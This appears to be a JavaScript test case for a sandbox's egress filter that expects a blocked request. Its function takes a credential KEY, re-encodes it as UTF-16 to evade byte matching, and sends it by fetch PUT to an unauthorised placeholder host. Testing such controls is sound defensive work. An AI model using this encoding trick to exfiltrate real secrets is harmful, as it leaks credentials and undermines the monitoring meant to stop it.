export const attempt = {
  tries: "to send an exposed value to another host in UTF-16",
  blockedBecause: "requests are searched for it in both byte orders",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  hostUsage: { host: "{other}", reason: "the credential KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  const { KEY } = credentials;
  const body = new Uint8Array(Array.from(KEY, (one) => [0, one.charCodeAt(0)]).flat());
  await fetch(`http://${other}/reached`, { method: "PUT", body });
  return "got through";
};
